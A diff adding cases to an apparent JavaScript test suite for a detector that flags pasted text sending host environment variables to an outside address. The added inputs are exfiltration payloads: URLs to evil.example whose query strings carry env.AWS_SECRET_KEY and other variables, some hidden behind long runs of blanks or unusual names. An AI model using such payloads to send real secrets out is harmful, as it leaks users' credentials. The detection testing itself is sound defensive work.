@@ -49,6 +49,21 @@ describe('a variable of the host that a pasted text sends to an address of its o
       instance({}, `${invoices.url}&q={{{ env.A }}}&r={{&env.B}}`),
       ['manual: A → evil.example', 'manual: B → evil.example'],
     ],
+    [
+      'in a URL, behind more blanks than anybody would write',
+      instance({}, `${invoices.url}&q={{${' '.repeat(40)}env.AWS_SECRET_KEY${' '.repeat(40)}}}`),
+      ['manual: AWS_SECRET_KEY → evil.example'],
+    ],
+    [
+      'under a name that has more than letters in it',
+      instance({}, `${invoices.url}&q={{env.ProgramFiles(x86)}}&r={{env. CLÉ}}`),
+      ['manual: CLÉ → evil.example', 'manual: ProgramFiles(x86) → evil.example'],
+    ],
+    [
+      'under a name of any length',
+      instance({}, `${invoices.url}&q={{env.${'A'.repeat(250)}}}`),
+      [`manual: ${'A'.repeat(200)} → evil.example`],
+    ],
     ['instead of a URL', instance({}, '${SECRET_PATH}'), ['manual: SECRET_PATH → evil.example']],
     [
       'in a header of the callback',
